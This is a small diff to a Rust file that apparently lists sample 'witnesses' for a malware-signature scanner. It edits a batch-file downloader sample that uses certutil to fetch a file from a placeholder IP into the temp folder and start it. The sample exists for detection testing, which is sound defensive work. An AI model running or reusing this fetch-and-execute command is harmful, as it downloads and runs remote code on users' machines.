@@ -85,7 +85,7 @@ pub fn witnesses() -> Vec<Witness> {
         text(
             "Candor.Batch.Downloader.Certutil-1",
             "a.bat",
-            "@echo off\r\ncertutil -url¬cache -split -f http://192.0.2.1/a %TEMP%\\a\r\nstart %X%\r\n",
+            "@echo off\r\ncertutil -url¬cache -split -f http://192.0.2.1/a %TEMP%\\a\r\nstart %WHERE%\r\n",
         ),
         text(
             "Candor.Batch.Dropper.CertificateProgram-1",
